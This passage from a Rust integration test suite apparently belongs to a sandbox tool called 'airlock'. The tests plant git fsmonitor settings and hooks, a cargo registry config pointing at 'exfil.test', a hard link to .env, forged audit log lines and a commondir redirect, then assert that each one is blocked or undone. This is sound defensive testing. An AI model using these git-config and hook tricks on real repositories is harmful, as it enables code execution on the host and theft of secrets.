        who.prepare(&f);
        let child = who
            .wrap(f.command(
                &["--network", "none"],
                "trap '' INT; echo ready > ready.txt; sleep 60",
            ))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let t = std::time::Instant::now();
        while !f.ws.join("ready.txt").exists() && t.elapsed().as_secs() < 10 {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let _ = Command::new("kill")
            .args(["-INT", &child.id().to_string()])
            .status();
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).to_string();
        assert_eq!(out.status.code(), Some(130), "{who:?}: {stderr}");
        assert!(stderr.contains("did not end within"), "{who:?}: {stderr}");
    }
}

/// Repositories git finds that are not named `.git`, or hide behind odd
/// names, or in a pre-existing nested repository's submodule.
#[test]
fn every_shape_of_nested_repository_is_judged() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        // A pre-existing nested repository with a submodule's git dir.
        let vendor = f.ws.join("vendor/lib");
        std::fs::create_dir_all(vendor.join(".git/modules/sub/hooks")).unwrap();
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let _ = host(&f, who, &vendor, "git", &["init", "-q", "."]);
        let marker = f.home.join("PWNED");
        let m = marker.display();
        let script = format!(
            r#"mkdir -p src/objects src/refs; echo "ref: refs/heads/master" > src/HEAD
               printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch {m}; false"\n' > src/config
               d="$(printf 'x\377')"; mkdir -p "$d/r" && (cd "$d/r" && git init -q . && git config core.fsmonitor "touch {m}; false")
               ln -s "$d/r" tools
               printf '[core]\n\tfsmonitor = touch {m}\n' > vendor/lib/.git/modules/sub/config
               printf '#!/bin/sh\ntouch {m}\n' > vendor/lib/.git/modules/sub/hooks/post-checkout
               git -C vendor/lib config core.fsmonitor "touch {m}; false"
               echo done"#
        );
        let out = sandboxed(&f, who, &["--network", "none"], &script);
        assert!(out.stdout.contains("done"), "{who:?}: {}", show(&out));
        for dir in [f.ws.join("src"), f.ws.join("tools"), vendor.clone()] {
            assert!(
                dir.is_dir(),
                "{who:?}: {} is gone\n{}",
                dir.display(),
                show(&out)
            );
            host_git_runs_nothing(&f, who, &dir, &marker);
        }
        assert!(
            !std::fs::read_to_string(vendor.join(".git/modules/sub/config"))
                .unwrap_or_default()
                .contains("fsmonitor"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !vendor.join(".git/modules/sub/hooks/post-checkout").exists(),
            "{who:?}"
        );
    }
}

/// Hooks and configuration that the repository's own configuration points
/// at, inside the workspace: `core.hooksPath` (husky) and `include.path`.
#[test]
fn hooks_path_and_included_config_are_protected() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = repo(who);
        f.write("githooks/pre-commit", "#!/bin/sh\nexit 0\n");
        f.write("team.gitconfig", "[user]\n\tname = team\n");
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        for args in [
            &["config", "core.hooksPath", "githooks"][..],
            &["config", "include.path", "../team.gitconfig"],
        ] {
            let o = host(&f, who, &f.ws, "git", args);
            assert_eq!(o.code, 0, "{}", show(&o));
        }
        let marker = f.home.join("PWNED");
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            &format!(
                "printf '#!/bin/sh\\ntouch {m}\\n' > githooks/pre-commit; printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> team.gitconfig; echo ok > src.txt && echo wrote",
                m = marker.display()
            ),
        );
        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
        assert_eq!(
            std::fs::read_to_string(f.ws.join("githooks/pre-commit")).unwrap(),
            "#!/bin/sh\nexit 0\n",
            "{who:?}"
        );
        assert_eq!(
            std::fs::read_to_string(f.ws.join("team.gitconfig")).unwrap(),
            "[user]\n\tname = team\n",
            "{who:?}"
        );
        host_git_runs_nothing(&f, who, &f.ws, &marker);
    }
}

/// A configuration file the repository includes but that is not there yet
/// (a team's shared config, to be made later) is set aside when a sandbox
/// makes it, at the top or in a directory not made yet either (red team
/// round 12: the path stayed `<top>/.git/../x`, which the check could not
/// quarantine, and the host's git ran what it said).
#[test]
fn included_config_not_made_yet_is_set_aside_when_made() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = repo(who);
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        for args in [
            &["config", "--add", "include.path", "../.gitconfig"][..],
            &[
                "config",
                "--add",
                "include.path",
                "../tools/gitconfig.d/main",
            ],
            &["config", "includeIf.gitdir:/.path", "../config/git.inc"],
        ] {
            let o = host(&f, who, &f.ws, "git", args);
            assert_eq!(o.code, 0, "{}", show(&o));
        }
        let marker = f.home.join("PWNED");
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            &format!(
                "c='[core]\n\tfsmonitor = touch {m}\n'; mkdir -p tools/gitconfig.d config; \
                 printf \"$c\" > .gitconfig; printf \"$c\" > tools/gitconfig.d/main; \
                 printf \"$c\" > config/git.inc; echo wrote",
                m = marker.display()
            ),
        );
        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
        for made in [".gitconfig", "tools/gitconfig.d/main", "config/git.inc"] {
            assert!(
                !f.ws.join(made).exists(),
                "{who:?}: {made} was left in place: {}",
                show(&out)
            );
        }
        assert!(out.stderr.contains("quarantine"), "{who:?}: {}", show(&out));
        host_git_runs_nothing(&f, who, &f.ws, &marker);
        // And the next run is not refused over it.
        let next = sandboxed(&f, who, &["--network", "none"], "echo again");
        assert_eq!(next.code, 0, "{who:?}: {}", show(&next));
    }
}

/// A sandbox that makes `sub/.git` (empty, or a real repository) cannot make
/// `sub` the next run's workspace and so drop the project's policy.
#[test]
fn a_planted_repository_does_not_move_the_workspace() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        f.write("airlock.toml", "[filesystem]\ndeny_read = [\"secrets\"]\n");
        f.write("secrets/key", "PROJECT-SECRET");
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let a = airlock_bin().display().to_string();
        let t = host(&f, who, &f.ws, &a, &["policy", "trust"]);
        assert_eq!(t.code, 0, "{}", show(&t));
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "mkdir -p sub/.git && mkdir -p sub2 && cd sub2 && git init -q . 2>/dev/null; echo ok",
        );
        assert!(out.stdout.contains("ok"), "{}", show(&out));
        for sub in ["sub", "sub2"] {
            let mut c = f.command(&["--network", "none"], "cat ../secrets/key; pwd");
            c.current_dir(f.ws.join(sub));
            let out = run(&mut who.wrap(c));
            assert!(
                !out.stdout.contains("PROJECT-SECRET"),
                "{who:?} {sub}: {}",
                show(&out)
            );
        }
    }
}

/// A directory the policy makes writable is a writable root for trust too:
/// what a preset learns from there (a registry cache listing) needs trust.
#[test]
fn files_presets_read_in_any_writable_root_need_trust() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        f.write(
            "~/.config/airlock/policy.toml",
            "presets = [\"cargo\"]\n[filesystem]\nwrite = [\".\", \"~/.cargo\"]\n",
        );
        std::fs::create_dir_all(f.home.join(".cargo/registry/index")).unwrap();
        who.prepare(&f);
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "mkdir -p ~/.cargo/registry/index/evil-registry.test-0123456789abcdef && \
             echo '{\"dl\":\"https://exfil.test/x\"}' > ~/.cargo/registry/index/evil-registry.test-0123456789abcdef/config.json; echo planted",
        );
        assert!(out.stdout.contains("planted"), "{who:?}: {}", show(&out));
        let out = sandboxed(&f, who, &["--network", "none"], "echo ran");
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(
            out.stderr.contains("evil-registry.test"),
            "{who:?}: {}",
            show(&out)
        );
    }
}

/// `.env` is hidden; a run made it while absent and linked it elsewhere to
/// read what the user later writes there.
#[test]
fn a_hard_link_to_a_hidden_file_is_refused() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        let policy = f.write("~/deny.toml", "[filesystem]\ndeny_read = [\".env\"]\n");
        who.prepare(&f);
        let p = policy.to_str().unwrap();
        let out = sandboxed(
            &f,
            who,
            &["--policy", p, "--network", "none"],
            ": > .env; ln .env .cache-x; echo planted",
        );
        assert!(out.stdout.contains("planted"), "{}", show(&out));
        // The planted name was moved away; if the link survives, the user's
        // new .env is another file.
        std::fs::write(f.ws.join(".env"), "TOKEN=s3cret").unwrap();
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let out = sandboxed(
            &f,
            who,
            &["--policy", p, "--network", "none"],
            "cat .cache-x .env 2>&1; echo done",
        );
        assert!(!out.stdout.contains("s3cret"), "{who:?}: {}", show(&out));
        // A link made by any other means is refused outright.
        let _ = std::fs::remove_file(f.ws.join(".cache-x"));
        std::fs::hard_link(f.ws.join(".env"), f.ws.join("other-link")).unwrap();
        let out = sandboxed(
            &f,
            who,
            &["--policy", p, "--network", "none"],
            "cat other-link; echo done",
        );
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(!out.stdout.contains("s3cret"));
    }
}

/// The degraded tier has no mount namespace: the workspace root stays
/// writable (a git checkout gets its `node_modules`), and the post-run
/// check restores or quarantines what the command changed in the
/// protected set.
#[test]
fn the_degraded_tier_restores_the_protected_set_after_the_run() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = repo(who);
        let marker = f.home.join("PWNED");
        let config_before = std::fs::read(f.ws.join(".git/config")).unwrap();
        let mut c = f.command(
            &["--allow-degraded", "--network", "none"],
            &format!(
                "mkdir node_modules && echo ok > node_modules/x && echo made; \
                 printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> .git/config; \
                 printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '' > .envrc",
                m = marker.display()
            ),
        );
        c.env("AIRLOCK_FORCE_TIER", "degraded");
        let out = run(&mut who.wrap(c));
        assert!(out.stdout.contains("made"), "{who:?}: {}", show(&out));
        assert_eq!(
            std::fs::read(f.ws.join(".git/config")).unwrap(),
            config_before,
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !f.ws.join(".git/hooks/pre-commit").exists(),
            "{who:?}: {}",
            show(&out)
        );
        assert!(!f.ws.join(".envrc").exists(), "{who:?}: {}", show(&out));
        host_git_runs_nothing(&f, who, &f.ws, &marker);
    }
}

/// The audit log and the report are airlock's, even inside the workspace:
/// the sandbox can neither append a forged line, truncate, nor replace them.
#[test]
fn the_audit_log_and_report_in_the_workspace_cannot_be_forged() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        std::fs::create_dir_all(f.ws.join("logs")).unwrap();
        who.prepare(&f);
        let out = sandboxed(
            &f,
            who,
            &["--network", "none", "--audit-log", "logs/a.jsonl", "--report", "report.json"],
            "echo '{\"event\":\"decision\",\"host\":\"FORGED\"}' >> logs/a.jsonl; truncate -s0 logs/a.jsonl; \
             mv logs logs-x; rm -f report.json; echo '{\"FORGED\":true}' > report.json; echo tried",
        );
        let _ = std::fs::create_dir_all(f.ws.join("logs"));
        assert!(out.stdout.contains("tried"), "{who:?}: {}", show(&out));
        let log = std::fs::read_to_string(f.ws.join("logs/a.jsonl")).unwrap_or_default();
        assert!(
            !log.lines()
                .any(|l| l.starts_with("{\"event\":\"decision\",\"host\":\"FORGED\"")),
            "{who:?}: {log}"
        );
        assert!(log.contains("\"event\":\"end\""), "{who:?}: {log}");
        assert!(
            log.contains("\"event\":\"run\""),
            "{who:?}: {log}\n{}",
            show(&out)
        );
        let report = std::fs::read_to_string(f.ws.join("report.json")).unwrap();
        assert!(!report.contains("FORGED"), "{who:?}: {report}");
        assert!(report.contains("exit_code"), "{who:?}: {report}");
    }
}

/// A name that points an existing repository at code the sandbox controls
/// (`.git/commondir`) would run on the host's next `git status` even while
/// the run goes on (an IDE polls it): the sandbox is stopped at once.
#[test]
fn redirecting_an_existing_repository_stops_the_sandbox_at_once() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = repo(who);
        let t = std::time::Instant::now();
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "mkdir -p shared/objects shared/refs; echo ../shared > .git/commondir; sleep 20; echo still-running",
        );
        assert!(t.elapsed().as_secs() < 15, "{who:?}: {}", show(&out));
        assert!(
            !out.stdout.contains("still-running"),
            "{who:?}: {}",
            show(&out)
        );
        assert_ne!(out.code, 0, "{who:?}: {}", show(&out));
        assert!(
            out.stderr.contains("the sandbox was stopped"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(!f.ws.join(".git/commondir").exists(), "{who:?}");
    }
}

/// HOME as the workspace puts airlock's own config directory, and the run's
/// journal in it, inside the writable root: what airlock itself writes
/// there is not the sandbox's and is not reported or quarantined, while
/// the sandbox still cannot write there.
#[test]
fn airlocks_own_journal_is_not_taken_for_a_plant_when_home_is_the_workspace() {
    use airlock_tests::tiers::{command, show, users, Tier};
    for user in users() {
        let f = Fixture::new_in(&base());
        let _ = Command::new("chmod").arg("o+rx").arg(base()).status();
        let ws = f.ws.display().to_string();
        let mut cmd = command(
            &f,
            Tier::Full,
            user,
            &["--workspace", &ws, "--network", "none"],
            "echo x > .config/airlock/pending/planted.json; echo done",
        );
        cmd.env("HOME", &f.ws)
            .env("XDG_CONFIG_HOME", f.ws.join(".config"))
            .env("XDG_DATA_HOME", f.ws.join(".local/share"));
        for _ in 0..2 {
            let out = run(&mut cmd);
            let ctx = format!("as_user={user}\n{}", show(&out));
            assert_eq!(out.code, 0, "{ctx}");
            assert!(out.stdout.contains("done"), "{ctx}");
            assert!(!out.stderr.contains("changed a protected path"), "{ctx}");
            assert!(
                !f.ws.join(".config/airlock/pending/planted.json").exists(),
                "{ctx}"
            );
            assert!(!f.ws.join(".airlock/quarantine").exists(), "{ctx}");
        }
    }
}
